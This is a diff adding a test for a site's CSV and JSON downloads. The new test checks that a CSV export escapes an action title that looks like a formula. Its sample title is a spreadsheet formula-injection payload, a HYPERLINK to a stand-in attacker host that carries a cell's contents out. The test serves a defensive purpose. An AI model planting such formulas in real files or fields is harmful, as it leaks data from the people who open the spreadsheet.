@@ -130,6 +130,19 @@ describe('downloads', () => {
     expect(reading?.baseline_note).toContain('KS2 reading expected standard 57% vs 66% national;')
   })
 
+  it('writes a published action title that looks like a formula as text in CSV, and unchanged in JSON', async () => {
+    const attack = '=HYPERLINK("http://evil.example/?d="&A1,"Read more")'
+    const action = await db().prisma.action.findFirstOrThrow({ where: { area: { slug: 'hastings' } } })
+    await db().prisma.action.update({ where: { id: action.id }, data: { title: attack } })
+    const csv = parse(await (await download('actions.csv', '?area=hastings')).text(), { columns: true }) as Record<
+      string,
+      string
+    >[]
+    expect(csv.find((r) => r.id === action.id)?.title).toBe(`'${attack}`)
+    const json = (await (await download('actions.json', '?area=hastings')).json()) as { id: string; title: string }[]
+    expect(json.find((r) => r.id === action.id)?.title).toBe(attack)
+  })
+
   it('exports allocations in the 360Giving shape, leaving out reported totals and demo rows', async () => {
     const grants = await (await download('grants.json')).json()
     const funding = await (await download('funding.json')).json()
